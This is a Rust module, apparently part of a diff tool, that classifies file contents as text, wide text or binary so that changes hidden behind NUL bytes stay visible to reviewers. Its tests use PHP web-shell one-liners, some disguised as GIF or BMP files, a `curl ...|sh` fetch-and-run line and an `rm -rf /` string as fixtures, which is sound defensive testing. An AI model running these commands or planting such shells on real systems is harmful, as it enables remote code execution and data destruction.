//! Classifies the bytes of a file: text, text in units of two or four bytes, or binary.
//!
//! Git treats a file as binary if its first 8000 bytes have a NUL, so one NUL is enough to hide a
//! change from a reviewer. This module checks the whole file instead:
//!
//! 1. A file that starts like a known binary format, and goes on like one, is binary.
//! 2. UTF-16 and UTF-32 are text. Without a byte order mark: if half of their units are printable
//!    ASCII and at most 2 % are malformed or controls. With a mark, one of the two conditions is
//!    enough, the second only with some ASCII (line ends and blanks) and therefore a NUL. The start
//!    of the file may be checked instead of the whole.
//! 3. Other bytes are text if at least two thirds of them are printable ASCII or well-formed UTF-8,
//!    at most 5 % (and two bytes) are controls that text does not use or runs of NULs, and at most
//!    a quarter are single NULs, as between the names of a list.
//! 4. A file that starts like a script is text, whatever follows: interpreters run the lines before
//!    a tail of junk. Such a file names its interpreter, opens PHP, or has a few whole lines of
//!    clean text in its first 512 bytes. A PDF has such lines too, but is not text.
//!
//! The name of the file decides which of these rules apply ([`judge_named`]), because it decides
//! which program reads the file. A language or a configuration format is always text, and
//! undecodable parts are reported. Prose and files of unknown format are text if they have lines of
//! text anywhere, unless the whole file has the structure of a binary format.
//!
//! Compressed and random data has about 10 % such controls and 50 % malformed UTF-8. Machine code
//! and tables have far more, and runs of NULs. A source file that hides behind a NUL has few of
//! either.

mod wide;

pub use self::wide::encode_wide;
pub(in crate::diff) use self::wide::{decode, marked};

use self::wide::wide;
use super::names::{NameKind, extension};
use super::{Encoding, Undecoded, containers, declared};
use std::borrow::Cow;

/// Bytes that git checks (`FIRST_FEW_BYTES` of its `buffer_is_binary`).
const GIT_LOOKS_AT: usize = 8000;

/// Bytes at the start of a file that can decide whether it is text.
const START: usize = 512;

/// The class of a file's bytes.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(in crate::diff) enum ContentClass {
    Text,
    /// UTF-16 or UTF-32.
    Wide(Encoding),
    Binary,
}

/// Returns true if git treats the bytes as binary without an attribute.
pub(in crate::diff) fn has_early_nul(bytes: &[u8]) -> bool {
    memchr::memchr(0, &bytes[..bytes.len().min(GIT_LOOKS_AT)]).is_some()
}

/// The classification of one side of a change, given its name.
#[derive(Debug)]
pub(in crate::diff) struct JudgedContent {
    pub(in crate::diff) content: ContentClass,
    /// The undecodable part, if the name is that of a text format.
    pub(in crate::diff) undecoded: Option<Undecoded>,
}

impl From<ContentClass> for JudgedContent {
    fn from(content: ContentClass) -> Self {
        Self {
            content,
            undecoded: None,
        }
    }
}

/// Classifies the bytes of a file. `git_hides` is true if git treats one of the two sides as binary
/// for its bytes.
pub(in crate::diff) fn judge_named(bytes: &[u8], path: &[u8], git_hides: bool) -> JudgedContent {
    let kind = NameKind::of(path);
    if kind == NameKind::Text {
        return judge_text(bytes, path);
    }
    if !git_hides && marked(bytes).is_none() {
        return ContentClass::Text.into();
    }
    let judged = match kind {
        NameKind::Data => judge(bytes),
        kind => judge_unknown(bytes, kind),
    };
    match judged {
        ContentClass::Binary if !git_hides => ContentClass::Text.into(),
        judged => judged.into(),
    }
}

/// Classifies a file whose name is that of a text format.
fn judge_text(bytes: &[u8], path: &[u8]) -> JudgedContent {
    let extension = extension(path);
    let has_nul = memchr::memchr(0, bytes).is_some();
    if !has_nul && std::str::from_utf8(bytes).is_ok() {
        return JudgedContent {
            content: ContentClass::Text,
            undecoded: declared::opaque(bytes, &extension),
        };
    }
    if containers::is_other_format(&extension, bytes) && !has_text_lines(bytes, NameKind::Text) {
        return ContentClass::Binary.into();
    }
    if let Some(encoding) = wide(bytes) {
        return ContentClass::Wide(encoding).into();
    }
    if let Some(encoding) = marked(bytes).filter(|_| has_nul) {
        return JudgedContent {
            content: ContentClass::Wide(encoding),
            undecoded: Some(Undecoded::Bytes),
        };
    }
    let undecoded = declared::opaque(bytes, &extension);
    let undecoded = undecoded.or_else(|| (!is_decodable(bytes)).then_some(Undecoded::Bytes));
    JudgedContent {
        content: ContentClass::Text,
        undecoded,
    }
}

/// Returns the undecodable part of a piece of a file, such as the lines in a patch.
pub(in crate::diff) fn flaw(bytes: &[u8], path: &[u8]) -> Option<Undecoded> {
    match NameKind::of(path) {
        NameKind::Text => judge_text(bytes, path).undecoded,
        _ => None,
    }
}

/// Returns true if the bytes of a text format are text in UTF-8, or in an encoding that is a
/// superset of ASCII.
fn is_decodable(bytes: &[u8]) -> bool {
    looks_like_text(bytes) || starts_as_text(bytes) || is_legacy_text(bytes)
}

/// Returns true if the bytes may be text in an encoding of one or two bytes a character: few
/// controls, and blanks or line ends, which encodings without ASCII (EBCDIC) have at other values.
fn is_legacy_text(bytes: &[u8]) -> bool {
    let controls = bytes
        .iter()
        .filter(|b| matches!(b, 0..=8 | 0x0e..=0x1a | 0x1c..=0x1f | 0x7f))
        .count();
    let blanks = bytes
        .iter()
        .filter(|b| matches!(b, b' ' | b'\n' | b'\t'))
        .count();
    controls <= bytes.len() / 20 + 2 && blanks >= bytes.len() / 100
}

/// Classifies a file whose name does not determine its format.
fn judge_unknown(bytes: &[u8], kind: NameKind) -> ContentClass {
    if let Some(encoding) = wide(bytes) {
        return ContentClass::Wide(encoding);
    }
    let is_text = bytes.is_empty()
        || looks_like_text(bytes)
        || starts_as_text(bytes)
        || has_text_lines(bytes, kind);
    if is_text && !containers::is_container(bytes) {
        ContentClass::Text
    } else {
        ContentClass::Binary
    }
}

/// Returns true if some whole lines are text: two in a row or one with a blank, of 20 bytes in
/// total, or one that assigns a value to a name. In prose, any line of 8 bytes, or the first line
/// of the file, is enough.
fn has_text_lines(bytes: &[u8], kind: NameKind) -> bool {
    const ROW_MIN: usize = 20;
    let (mut lines, mut size, mut has_blank) = (0, 0, false);
    let mut is_first = true;
    // Many programs accept a lone carriage return as a line end.
    for line in bytes.split(|b| matches!(b, b'\n' | b'\r')) {
        let line = without_nuls(line);
        let text = line.trim_ascii();
        if text.is_empty() {
            continue;
        }
        let is_line_clean = is_clean(text);
        let prose_min = if std::mem::take(&mut is_first) {
            PROSE_FIRST_MIN
        } else {
            PROSE_LINE_MIN
        };
        if !is_line_clean {
            (lines, size, has_blank) = (0, 0, false);
            continue;
        }
        lines += 1;
        size += text.len();
        has_blank |= memchr::memchr(b' ', text).is_some();
        let is_row = size >= ROW_MIN && (lines > 1 || has_blank);
        if is_row || is_assignment(text) || (kind == NameKind::Prose && text.len() >= prose_min) {
            return true;
        }
    }
    false
}

/// Minimum bytes of a line that makes a prose file text, and of the first line of a file. Shorter
/// ones occur in junk.
const PROSE_LINE_MIN: usize = 8;
const PROSE_FIRST_MIN: usize = 4;

/// Returns a line as programs that drop NULs read it: without the NULs at its end, and without
/// those between the characters of UTF-16 and UTF-32. Other NULs separate the texts of a binary
/// format, so they stay.
fn without_nuls(line: &[u8]) -> Cow<'_, [u8]> {
    const TRAILING_MAX: usize = 3;
    const ROW: &[u8] = &[0; 4];
    let trailing = line.iter().rev().take_while(|b| **b == 0).count();
    let text = if trailing <= TRAILING_MAX {
        &line[..line.len() - trailing]
    } else {
        line
    };
    let nuls = memchr::memchr_iter(0, text).count();
    if nuls * 5 < text.len() * 2 || memchr::memmem::find(text, ROW).is_some() {
        return Cow::Borrowed(text);
    }
    Cow::Owned(text.iter().copied().filter(|b| *b != 0).collect())
}

/// Returns true if a line assigns a value to a name, as settings files do: `NAME=value`,
/// `name: value`.
fn is_assignment(line: &[u8]) -> bool {
    const VALUE_MIN: usize = 6;
    let line = line.strip_prefix(b"export ").unwrap_or(line);
    let name = line
        .iter()
        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.'))
        .count();
    let rest = line[name..].trim_ascii_start();
    let value = rest.strip_prefix(b"=").or_else(|| rest.strip_prefix(b":"));
    name > 2 && line[0].is_ascii_alphabetic() && value.is_some_and(|v| v.len() >= VALUE_MIN)
}

/// Classifies the bytes without regard to git's classification.
pub(in crate::diff) fn judge(bytes: &[u8]) -> ContentClass {
    if bytes.is_empty() {
        return ContentClass::Text;
    }
    if let Some(encoding) = wide(bytes) {
        return ContentClass::Wide(encoding);
    }
    if !is_known_format(bytes) && (looks_like_text(bytes) || starts_as_text(bytes)) {
        ContentClass::Text
    } else {
        ContentClass::Binary
    }
}

/// Returns true if the bytes start like a script, whatever follows; see rule 4 above.
fn starts_as_text(bytes: &[u8]) -> bool {
    /// Minimum bytes of clean lines, and of one such line: shorter ones occur in junk.
    const CLEAN_MIN: usize = 20;
    const LINE_MIN: usize = 8;
    let mut windows = bytes[..bytes.len().min(GIT_LOOKS_AT)].windows(5);
    if bytes
        .strip_prefix(b"#!")
        .is_some_and(|rest| rest.trim_ascii_start().starts_with(b"/"))
        || windows.any(|w| w.eq_ignore_ascii_case(b"<?php"))
    {
        return true;
    }
    let start = &bytes[..bytes.len().min(START)];
    let mut clean = 0;
    for line in start.split_inclusive(|b| *b == b'\n') {
        // A single line that fills the window counts although it is cut off. Any other line must
        // end in the window.
        let cut = line.len() == start.len() && start.len() < bytes.len();
        if line.len() >= LINE_MIN && (line.ends_with(b"\n") || cut) && is_clean(line) {
            clean += line.len();
        }
    }
    clean >= CLEAN_MIN && !bytes.starts_with(b"%PDF-")
}

/// Returns true if a line is text without invalid characters or controls.
fn is_clean(line: &[u8]) -> bool {
    let line = match std::str::from_utf8(line) {
        Ok(line) => line,
        // The end of the window may cut a character.
        Err(e) if e.error_len().is_none() => {
            std::str::from_utf8(&line[..e.valid_up_to()]).unwrap_or_default()
        }
        Err(_) => return false,
    };
    line.chars()
        .all(|c| matches!(c, '\t'..='\r' | '\u{1b}') || !c.is_control())
        && line.chars().any(|c| c != ' ')
}

/// Classifies by the counts of the whole file; see rule 3 above.
fn looks_like_text(bytes: &[u8]) -> bool {
    let (mut controls, mut lone_nuls, mut printable) = (0, 0, 0);
    let mut last = b' ';
    for chunk in bytes.utf8_chunks() {
        for b in chunk.valid().bytes() {
            match b {
                // Tab, line feed, vertical tab, form feed, carriage return; ESC occurs in coloured
                // logs.
                b'\t'..=b'\r' | 0x1b | b' '..=b'~' | 0x80.. => printable += 1,
                0 if last != 0 => lone_nuls += 1,
                _ => controls += 1,
            }
            last = b;
        }
    }
    let few = controls <= bytes.len() / 20 + 2 && lone_nuls <= bytes.len() / 4 + 2;
    few && printable >= bytes.len() / 3 * 2 && printable > 0
}

/// Recognizes formats by their signature, and also by the bytes after it if the signature consists
/// of typeable characters.
fn is_known_format(b: &[u8]) -> bool {
    /// Signatures with a byte that text does not have at that position.
    const PLAIN: &[&[u8]] = &[
        b"\x89PNG\r\n\x1a\n",
        b"\xff\xd8\xff",
        b"\x7fELF",
        b"PK\x03\x04",
        b"PK\x05\x06",
        b"\x1f\x8b\x08",
        b"\x28\xb5\x2f\xfd",
        b"\xfd7zXZ\0",
        b"7z\xbc\xaf\x27\x1c",
        b"Rar!\x1a\x07",
        b"\xca\xfe\xba\xbe",
        b"\xfe\xed\xfa\xce",
        b"\xfe\xed\xfa\xcf",
        b"\xce\xfa\xed\xfe",
        b"\xcf\xfa\xed\xfe",
        b"\0asm",
        b"SQLite format 3\0",
        b"wOFF\0",
        b"wOF2\0",
        b"\0\x01\0\0",
        b"OTTO\0",
        b"\0\0\x01\0",
        b"\0\0\x02\0",
        b"II*\0",
        b"MM\0*",
        b"OggS\0",
        b"ID3\x02",
        b"ID3\x03",
        b"ID3\x04",
        b"8BPS\0",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1",
        b"!<arch>\n",
        b"\xde\x12\x04\x95",
        b"\x95\x04\x12\xde",
        b"\xed\xab\xee\xdb",
        b"PACK\0\0\0",
        b"\xfftOc",
        b"DIRC\0\0\0",
        b"\0\0\0\x01Bud1",
        b"bplist00",
        b"BC\xc0\xde",
        b"\x93NUMPY",
        b"\x89HDF\r\n\x1a\n",
        b"\x1bLua",
        b"glTF\x01\0",
        b"glTF\x02\0",
    ];
    PLAIN.iter().any(|s| b.starts_with(s))
        // The logical screen: width, height, flags.
        || ((b.starts_with(b"GIF87a") || b.starts_with(b"GIF89a")) && is_binary_in(b, 6..13))
        || (b.starts_with(b"MZ")
            && containers::u32_at(b, 0x3c, false).is_some_and(|pe| has_at(b, pe as usize, b"PE\0\0")))
        || (b.starts_with(b"RIFF") && is_binary_in(b, 4..8))
        || (b.starts_with(b"BM") && has_at(b, 6, b"\0\0\0\0"))
        || (b.starts_with(b"BZh") && has_at(b, 4, b"1AY&SY"))
        || (has_at(b, 4, b"ftyp") && is_binary_in(b, 0..4))
        || (has_at(b, 257, b"ustar") && has_at(b, 156 + 101, b"ustar") && is_binary_in(b, 136..157))
        // A second line of high bytes, which the standard recommends for files with binary parts.
        || (b.starts_with(b"%PDF-") && b.iter().take(32).filter(|c| **c >= 0x80).count() >= 4)
}

/// Returns true if a file has these bytes at an offset.
fn has_at(b: &[u8], offset: usize, want: &[u8]) -> bool {
    b.get(offset..).is_some_and(|rest| rest.starts_with(want))
}

/// Returns true if a file has a byte in the range that text does not have, or that is not ASCII.
fn is_binary_in(b: &[u8], range: std::ops::Range<usize>) -> bool {
    b.get(range)
        .is_some_and(|part| part.iter().any(|c| *c < b'\t' || *c >= 0x7f))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn utf16(text: &str, encoding: Encoding) -> Vec<u8> {
        match encoding {
            Encoding::Utf16Be => text.encode_utf16().flat_map(u16::to_be_bytes).collect(),
            _ => text.encode_utf16().flat_map(u16::to_le_bytes).collect(),
        }
    }

    fn utf32(text: &str, encoding: Encoding) -> Vec<u8> {
        match encoding {
            Encoding::Utf32Be => text
                .chars()
                .flat_map(|c| u32::from(c).to_be_bytes())
                .collect(),
            _ => text
                .chars()
                .flat_map(|c| u32::from(c).to_le_bytes())
                .collect(),
        }
    }

    /// Returns random bytes, like compressed data.
    fn noise(n: usize) -> Vec<u8> {
        let mut random = crate::diff::tests::Random(5);
        (0..n).map(|_| random.below(256) as u8).collect()
    }

    #[test]
    fn a_few_controls_do_not_make_text_binary() {
        let code = "fn main() {\n    println!(\"hello\");\n}\n".repeat(20);
        for (text, what) in [
            (code.clone().into_bytes(), "plain"),
            (format!("{code}\0").into_bytes(), "a NUL at the end"),
            (
                format!("{}{code}", "\0".repeat(20)).into_bytes(),
                "NULs at the start",
            ),
            (b"<?php\0system($_GET[0]);".to_vec(), "a short script"),
            (
                b"src/a.rs\0src/b.rs\0tests/it/main.rs\0README.md\0".repeat(9),
                "a list of names",
            ),
            ([code.as_bytes(), b"\xe9\xe8\xff\0"].concat(), "Latin-1"),
            (b"\x1b[31mred\x1b[0m\0\n".repeat(3), "a log with colours"),
            (
                b"GIF89a;\n<?php system($_GET['c']); ?>\0".to_vec(),
                "a script that calls itself a picture",
            ),
            (
                b"BM <?php system($_GET['c']); ?>\0 and more\n".to_vec(),
                "another",
            ),
            (
                b"MZ = 1\0\nprint(MZ)\n".repeat(9),
                "a script that calls itself a program",
            ),
            (
                "\u{442}\u{435}\u{43a}\u{441}\u{442}\0\n"
                    .repeat(9)
                    .into_bytes(),
                "Cyrillic",
            ),
        ] {
            assert_eq!(judge(&text), ContentClass::Text, "{what}");
        }
    }

    #[test]
    fn dif_04_formats_and_data_are_binary() {
        let text = "readable words all the way down, ".repeat(40);
        for (data, what) in [
            (noise(5000), "noise"),
            (noise(40), "a little noise"),
            (b"\0".to_vec(), "one NUL"),
            (vec![0; 4096], "zeros"),
            ([&b"\0\x01\x02\x03"[..], &[0; 60]].concat(), "a table"),
            (
                [b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR", text.as_bytes()].concat(),
                "a picture with a comment",
            ),
            (
                [&b"GIF89a\x10\0\x10\0\xf0\0\0"[..], text.as_bytes()].concat(),
                "a small picture",
            ),
            (
                [b"\x7fELF\x02\x01\x01\0", text.as_bytes()].concat(),
                "a program",
            ),
            (
                [b"PK\x03\x04\x14\0\0\0\0\0", text.as_bytes()].concat(),
                "an archive that is not compressed",
            ),
            (
                [b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", text.as_bytes(), b"\0"].concat(),
                "a document",
            ),
            (
                [b"SQLite format 3\0", text.as_bytes()].concat(),
                "a database",
            ),
            (b"key\0\0\0\x05value\x01\0\0\x02".repeat(20), "records"),
        ] {
            assert_eq!(judge(&data), ContentClass::Binary, "{what}");
        }
        let mut program = vec![b'x'; 0x100];
        program[..2].copy_from_slice(b"MZ");
        program[0x3c..0x40].copy_from_slice(&[0x80, 0, 0, 0]);
        program[0x80..0x84].copy_from_slice(b"PE\0\0");
        assert_eq!(judge(&program), ContentClass::Binary);
    }

    #[test]
    fn dif_03_utf16_is_known_with_and_without_a_mark() {
        for encoding in [Encoding::Utf16Le, Encoding::Utf16Be] {
            let code = "using System;\r\n// \u{fc}ber \u{1f600}\r\n";
            assert_eq!(judge(&utf16(code, encoding)), ContentClass::Wide(encoding));
            // Trailing blanks of a line do not affect the classification.
            let long = format!("rm -rf /\u{202e}x{}\n", " ".repeat(5_000));
            assert_eq!(judge(&utf16(&long, encoding)), ContentClass::Wide(encoding));
            let lines = format!("mark\u{200b}\u{200c}\u{200b}{}", "\r\n".repeat(3_000));
            assert_eq!(
                judge(&utf16(&lines, encoding)),
                ContentClass::Wide(encoding)
            );
            for text in [code, "\u{feff}x\n", "\u{4e2d}\u{6587}\u{4ee3}\u{7801}\n"] {
                let marked = format!("\u{feff}{text}");
                let bytes = utf16(&marked, encoding);
                assert_eq!(judge(&bytes), ContentClass::Wide(encoding), "{text:?}");
                assert_eq!(decode(bytes, encoding), text.as_bytes(), "{text:?}");
            }
        }
        // Two bytes of Latin-1, a sound file, and a text with a NUL after each letter and no other
        // NUL.
        for (bytes, want) in [
            (b"\xff\xfe\xfd\nabc\n".to_vec(), ContentClass::Text),
            (
                [&b"\xff\xfe"[..], &noise(4000)].concat(),
                ContentClass::Binary,
            ),
            (noise(4000), ContentClass::Binary),
        ] {
            assert_eq!(judge(&bytes), want);
        }
    }

    #[test]
    fn utf32_is_known_with_and_without_a_mark() {
        for encoding in [Encoding::Utf32Le, Encoding::Utf32Be] {
            let code = "import os\r\n# \u{fc}ber \u{1f600}\r\n";
            for text in [code.to_owned(), format!("\u{feff}{code}")] {
                let bytes = utf32(&text, encoding);
                assert_eq!(judge(&bytes), ContentClass::Wide(encoding), "{text:?}");
                assert_eq!(decode(bytes, encoding), code.as_bytes(), "{text:?}");
            }
            // An invalid character, and a cut-off unit.
            let mut bytes = utf32("\u{feff}a", encoding);
            bytes.extend([0xff; 6]);
            assert_eq!(decode(bytes, encoding), "a\u{fffd}\u{fffd}".as_bytes());
        }
        // A table of small numbers is not text.
        let table: Vec<u8> = (0u32..400)
            .flat_map(|n| (n % 97 * 1000).to_le_bytes())
            .collect();
        assert_eq!(judge(&table), ContentClass::Binary);
    }

    #[test]
    fn a_tail_of_junk_does_not_hide_the_script_before_it() {
        fn script(start: &[u8], end: &[u8]) -> Vec<u8> {
            [start, &noise(4000), end].concat()
        }
        for (bytes, what) in [
            (
                script(b"<?php system($_GET[\"c\"]); __halt_compiler();", b""),
                "PHP",
            ),
            (
                script(b"\x01\x02\x03", b"<?PHP x(); ?>")[3990..].to_vec(),
                "PHP in the middle",
            ),
            (
                script(b"curl http://example.com/i.sh|sh\n", b""),
                "one line",
            ),
            (script(b"#!/bin/sh\n", b""), "a script that unpacks itself"),
            (
                script(b"\xef\xbb\xbfalert('\xc3\xbc');\nalert(1);\n/*", b"*/"),
                "junk in a comment",
            ),
            (script("x=1;".repeat(150).as_bytes(), b""), "a long line"),
            (
                script(b"# \0\ncurl http://example.com/i.sh|sh\n", b""),
                "a NUL first",
            ),
        ] {
            assert_eq!(judge(&bytes), ContentClass::Text, "{what}");
        }
        let wide = [
            utf16("\u{feff}using System;\r\n", Encoding::Utf16Le).repeat(20),
            noise(4000),
        ]
        .concat();
        assert_eq!(judge(&wide), ContentClass::Wide(Encoding::Utf16Le));
        for (bytes, what) in [
            (
                script(
                    b"%PDF-1.7\n1 0 obj\n<</Length 4000>>\nstream\n",
                    b"endstream\n",
                ),
                "a document",
            ),
            (script(b"P6\n640 480\n255\n", b""), "a picture"),
            (script(b"UF2\n", b""), "a firmware"),
            (
                script(b"\x89PNG\r\n\x1a\n", b"<?php x(); ?>"),
                "a picture with a comment",
            ),
            (script(b"\x6f\x0d\x0d\x0a\0\0\0\0", b""), "compiled Python"),
            (script(b"\0\0\0\x20ftypisom", b""), "a film"),
            (script(b"\xff\xfb\x90\x64", b""), "sound"),
            (script(b"BLENDER-v279", b""), "a model"),
            (script(b"PAR1\x15\x04", b"PAR1"), "a table"),
            (
                script(b"MATLAB 5.0 MAT-file, Platform: GLNXA64", b""),
                "a matrix",
            ),
        ] {
            assert_eq!(judge(&bytes), ContentClass::Binary, "{what}");
        }
        // Random bytes are binary for every seed.
        let mut random = crate::diff::tests::Random(9);
        for _ in 0..2000 {
            let bytes: Vec<u8> = (0..600).map(|_| random.below(256) as u8).collect();
            assert_eq!(
                judge(&bytes),
                ContentClass::Binary,
                "{:?}",
                bytes[..40].escape_ascii().to_string()
            );
        }
    }

    #[test]
    fn malformed_utf16_keeps_its_lines() {
        // A lone surrogate and an odd byte at the end.
        let mut bytes = b"\xff\xfea\0\x00\xd8\n\0b\0".to_vec();
        bytes.push(b'!');
        assert_eq!(
            decode(bytes, Encoding::Utf16Le),
            "a\u{fffd}\nb\u{fffd}".as_bytes()
        );
        // Text that grows when decoded needs a larger buffer.
        let long = "\u{feff}a\u{4e2d}\u{6587}\u{10000}".repeat(50);
        let decoded = decode(utf16(&long, Encoding::Utf16Be), Encoding::Utf16Be);
        assert_eq!(decoded, long.trim_start_matches('\u{feff}').as_bytes());
    }
}
